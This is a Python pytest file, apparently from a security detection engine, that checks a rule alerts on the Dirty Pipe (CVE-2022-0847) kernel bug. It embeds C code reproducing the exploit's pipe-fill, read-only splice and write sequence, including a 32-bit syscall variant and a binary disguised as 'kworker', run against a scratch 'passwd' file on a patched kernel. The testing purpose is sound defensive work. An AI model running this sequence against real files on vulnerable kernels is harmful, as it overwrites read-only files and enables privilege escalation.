"""CVE-2022-0847 "Dirty Pipe": splice from a file the process may only read, into a pipe, then a write.

The stand-in makes the published exploit's calls with its arguments, in a
podman container as an unprivileged user (``--user 1000``), on a scratch
file the test owns (root, mode 0644) in a read-only bind mount: it fills
and drains a pipe (so every buffer carries PIPE_BUF_FLAG_CAN_MERGE), opens
the file ``O_RDONLY``, splices one byte from just before the target offset
into the pipe, and writes its bytes to the pipe. This kernel is patched, so
the file keeps its content (the program and the test both check); were it
not, the scratch file's cached page would be all that changed.

- ``exploit``: the 64-bit calls, must alert once (the splice);
- ``compat``: the same splice by a 32-bit ``int $0x80`` (ia32 ``splice``, 313)
  from a renamed binary, must alert;
- ``benign``: a whole-file copy through a pipe (a splice of 64 KiB of the
  read-only file) and a splice of a file opened read-write, must not.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from c_programs import build_c
from secengine_run import alerts_seen, of_rule

pytestmark = pytest.mark.bpf

CVE = "CVE-2022-0847"
CONTENT = b"root:x:0:0:root:/root:/bin/sh\n" * 8

_STANDIN = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char page[4096];
static long off_in; /* loff_t: 8 bytes, for the 32-bit call too */

static void prepare(int p[2])
{
    int size = fcntl(p[1], F_GETPIPE_SZ);
    for (int n = size; n > 0; n -= (int)sizeof page)
        write(p[1], page, n > (int)sizeof page ? sizeof page : (size_t)n);
    for (int n = size; n > 0; n -= (int)sizeof page)
        read(p[0], page, n > (int)sizeof page ? sizeof page : (size_t)n);
}

static long splice32(int in, long *off, int out, unsigned len)
{
    long ret;
    __asm__ volatile("push %%rbp\n\txor %%ebp, %%ebp\n\tint $0x80\n\tpop %%rbp"
                     : "=a"(ret)
                     : "a"(313L /* ia32 splice */), "b"((long)in), "c"(off), "d"((long)out),
                       "S"(0L), "D"((long)len)
                     : "memory");
    return ret;
}

int main(int argc, char **argv)
{
    const char *mode = argv[1], *target = argv[2];
    int p[2];
    char before[64], after[64];
    if (pipe(p))
        return 10;
    int fd = open(target, O_RDONLY);
    if (fd < 0 || pread(fd, before, sizeof before, 0) != sizeof before)
        return 11;
    if (!strcmp(mode, "benign")) {
        /* a whole-file copy through a pipe, and a file opened read-write */
        if (splice(fd, NULL, p[1], NULL, 65536, 0) < 0)
            return 12;
        char scratch[] = "/tmp/dirty-pipe-benign-XXXXXX";
        int rw = mkstemp(scratch);
        if (rw < 0 || write(rw, "ab", 2) != 2)
            return 13;
        off_in = 0;
        if (splice(rw, &off_in, p[1], NULL, 1, 0) != 1)
            return 14;
        return 0;
    }
    prepare(p);
    off_in = 4; /* the byte before the target offset, 5 */
    long n = !strcmp(mode, "compat") ? splice32(fd, &off_in, p[1], 1)
                                     : splice(fd, &off_in, p[1], NULL, 1, 0);
    if (n != 1)
        return 15;
    if (write(p[1], "XXXX", 4) != 4) /* the write that lands in the page on a vulnerable kernel */
        return 16;
    if (pread(fd, after, sizeof after, 0) != sizeof after)
        return 17;
    return memcmp(before, after, sizeof before) ? 1 /* the file changed: vulnerable */ : 0;
}
"""


@pytest.fixture
def scratch(tmp_path: Path) -> Path:
    """A directory with the program (as ``kworker``) and a root-owned 0644 target file."""
    program = Path(build_c("kworker", _STANDIN, flags=("-static", "-no-pie")))
    d = tmp_path / "dirty"
    d.mkdir()
    os.chmod(d, 0o755)
    (d / "kworker").write_bytes(program.read_bytes())
    os.chmod(d / "kworker", 0o755)
    (d / "passwd").write_bytes(CONTENT)
    os.chmod(d / "passwd", 0o644)
    return d


def _in_container(pm: Any, name: str, d: Path, mode: str) -> subprocess.CompletedProcess[str]:
    return pm.run(
        name,
        "/t/kworker",
        mode,
        "/t/passwd",
        extra=("--user", "1000:1000", "-v", f"{d}:/t:ro"),
    )


@pytest.mark.parametrize("mode", ["exploit", "compat"])
def test_dirty_pipe_splice_alerts_and_the_look_alikes_do_not(
    podman: Any, scratch: Path, mode: str
) -> None:
    results = {}

    def action() -> None:
        results["benign"] = _in_container(podman, f"i15-cvec-0847-benign-{mode}", scratch, "benign")
        results["exploit"] = _in_container(podman, f"i15-cvec-0847-{mode}", scratch, mode)

    alerts = of_rule(alerts_seen(action, lambda got: bool(of_rule(got, CVE))), CVE)
    assert (scratch / "passwd").read_bytes() == CONTENT, "the scratch file changed"
    assert results["benign"].returncode == 0, results["benign"]
    assert results["exploit"].returncode == 0, results["exploit"]  # the kernel is not vulnerable
    assert len(alerts) == 1, f"expected the exploit's splice alone to alert: {alerts}"
    [alert] = alerts
    assert alert["priority"] == "Critical" and "T1068" in alert["tags"]
    fields = alert["output_fields"]
    assert fields["fd.name"] == "/t/passwd"
    assert fields["fd.is_open_write"] is False  # opened O_RDONLY
    assert fields["evt.arg.fd_out"].endswith("(<p>)"), fields
    assert fields["evt.arg.size"] == "1" and fields["user.uid"] == 1000
    assert fields["proc.name"] == "kworker"
    assert fields["evt.is_compat"] is (mode == "compat")
    assert fields["container.id"] not in ("", "host")
